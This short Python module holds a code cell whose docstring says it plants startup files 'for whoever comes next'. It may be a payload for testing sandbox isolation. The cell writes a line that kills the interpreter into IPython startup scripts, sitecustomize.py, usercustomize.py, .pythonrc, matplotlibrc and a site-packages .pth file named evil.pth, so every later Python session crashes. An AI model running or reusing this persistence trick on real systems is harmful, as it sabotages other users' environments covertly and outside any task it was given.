"""Plants start-up files of IPython, Python and matplotlib for whoever comes next."""

CELL = r"""
import os
home = os.path.expanduser('~')
for name in ('.ipython/profile_default/startup/00.py', '.config/matplotlib/matplotlibrc', '.pythonrc', 'sitecustomize.py', 'usercustomize.py', '.local/lib/python3.11/site-packages/evil.pth'):
    path = os.path.join(home, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, 'w').write('import os; os._exit(1)')
"""
